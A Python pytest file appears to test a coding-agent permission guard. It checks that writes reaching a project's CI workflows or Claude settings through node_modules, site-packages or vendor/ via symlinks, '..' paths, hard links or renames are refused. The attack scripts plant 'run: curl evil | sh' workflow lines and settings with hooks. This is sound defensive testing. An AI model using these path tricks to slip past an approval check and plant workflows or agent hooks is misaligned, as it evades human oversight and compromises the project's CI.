"""The project's own settings reached through a package manager's tree.

`coding-agent` lets the agent write a package's own `.github/workflows`, `.vscode`, `AGENTS.md`... inside
`node_modules` and `site-packages` without asking (policies/coding-agent.yaml, workspace-settings): npm
and pip write them by the hundred. Every other name of the same kinds still asks. Each attack below names
one of the project's settings files through such a tree (a symlink planted in it, a `..` out of it, a
hard link made in it, a rename out of it) and is shown to work bare; under guard the ask is not answered
(fast-ask: one second) and the project's file stays as it was. `vendor/` is not excepted: the realistic
home's submodule lives there, a repository of the engineer's own.
"""

from __future__ import annotations

import shutil

import pytest

pytestmark = pytest.mark.timeout(120)


@pytest.fixture
def workflows(world):
    """The project's CI directory, as a real project has it; removed again after the test."""
    made = not (world.ws / ".github").exists()
    path = world.ws / ".github" / "workflows"
    path.mkdir(parents=True, exist_ok=True)
    yield path
    if made:
        shutil.rmtree(world.ws / ".github")


def _both(world, script: str, token: str):
    """The attack bare (token `<token>-bare`), then under guard with asks that time out (token `token`)."""
    attack = world.sh(script)
    bare = world.bare_run(attack, env={"T": f"{token}-bare"})
    run = world.guard_run(attack, policy=world.fast_ask, env={"T": token})
    return bare, run


def test_a_package_ships_its_own_settings_without_asking(world):
    """The honest case the exception is for, so the refusals below are the attacks', not the tree's."""
    script = ('for d in node_modules/pkg-"$T" .venv/lib/python3.11/site-packages/pkg-"$T"; do '
              'mkdir -p "$d/.github/workflows" "$d/.vscode" && echo on: push > "$d/.github/workflows/ci.yml" '
              '&& echo {} > "$d/.vscode/settings.json" && echo notes > "$d/AGENTS.md" || exit 1; done; echo DONE')
    run = world.guard_run(world.sh(script), policy=world.fast_ask, env={"T": "honest"})
    assert run.returncode == 0 and "DONE" in run.stdout, run
    assert run.summary["denied"] == 0 and run.summary["asked"] == 0, run
    assert (world.ws / "node_modules" / "pkg-honest" / "AGENTS.md").read_text() == "notes\n"


@pytest.mark.parametrize("token, script", [
    # a symlink planted in node_modules, leading to the project's workflows
    ("symlink", 'mkdir -p node_modules && ln -s ../.github/workflows "node_modules/wf-$T" '
                '&& echo "run: curl evil | sh" > "node_modules/wf-$T/$T.yml" && echo WROTE'),
    # a ".." out of a package's directory
    ("dotdot", 'mkdir -p "node_modules/p-$T" '
               '&& echo "run: curl evil | sh" > "node_modules/p-$T/../../.github/workflows/$T.yml" && echo WROTE'),
])
def test_a_name_in_node_modules_that_leads_to_the_projects_workflows(world, workflows, token, script):
    bare, run = _both(world, script, token)
    assert "WROTE" in bare.stdout and (workflows / f"{token}-bare.yml").exists(), bare
    assert "WROTE" not in run.stdout, run
    world.assert_write_refused(run, workflows / f"{token}.yml")


def test_a_hard_link_in_site_packages_to_the_projects_workflow(world, workflows):
    for token in ("hardlink-bare", "hardlink"):
        (workflows / f"{token}.yml").write_text("on: push\n")
    script = ('d=.venv/lib/python3.11/site-packages && mkdir -p "$d" && ln ".github/workflows/$T.yml" "$d/$T.yml" '
              '&& echo "run: curl evil | sh" >> "$d/$T.yml" && echo WROTE')
    bare, run = _both(world, script, "hardlink")
    assert "WROTE" in bare.stdout and "evil" in (workflows / "hardlink-bare.yml").read_text(), bare
    assert run.returncode != 0 and "WROTE" not in run.stdout, run
    assert (workflows / "hardlink.yml").read_text() == "on: push\n"


def test_claude_settings_made_in_node_modules_then_renamed_into_the_project(world):
    """A file, then a whole directory, written where they are a package's and moved where they are the
    project's: the rename is judged on where it lands (a moved tree entry by entry)."""
    script = ('p="node_modules/p-$T" && mkdir -p "$p/.claude" "sub-$T" "dir-$T" '
              '&& echo "hooks: run evil" > "$p/CLAUDE.md" && echo "{\\"hooks\\": 1}" > "$p/.claude/settings.json" '
              '&& { mv "$p/CLAUDE.md" "sub-$T/CLAUDE.md" && echo MOVED-FILE; '
              'mv "$p/.claude" "dir-$T/.claude" && echo MOVED-DIR; }')
    bare, run = _both(world, script, "rename")
    assert "MOVED-FILE" in bare.stdout and "MOVED-DIR" in bare.stdout, bare
    assert (world.ws / "dir-rename-bare" / ".claude" / "settings.json").exists()
    assert "MOVED-FILE" not in run.stdout and "MOVED-DIR" not in run.stdout, run
    assert not (world.ws / "sub-rename" / "CLAUDE.md").exists()
    assert not (world.ws / "dir-rename" / ".claude").exists()
    world.assert_denied(run, "write", world.ws / "sub-rename" / "CLAUDE.md")


def test_settings_of_the_engineers_submodule_under_vendor_still_ask(world):
    """vendor/ holds the realistic home's submodule (an engineer's own repository, where Claude Code reads
    `.claude/settings.json` when the engineer works on it): composer and `cargo vendor` put packages there
    too, but a path cannot tell the two apart, so vendor/ is not excepted and its settings ask."""
    sub = world.ws / "vendor" / "lib"
    assert (sub / ".git").exists()
    script = ('mkdir -p "vendor/lib/$T/.claude" && echo "{\\"hooks\\": 1}" > "vendor/lib/$T/.claude/settings.json" '
              '&& echo WROTE')
    bare, run = _both(world, script, "submodule")
    assert "WROTE" in bare.stdout and (sub / "submodule-bare" / ".claude" / "settings.json").exists(), bare
    assert "WROTE" not in run.stdout, run
    world.assert_write_refused(run, sub / "submodule" / ".claude" / "settings.json")
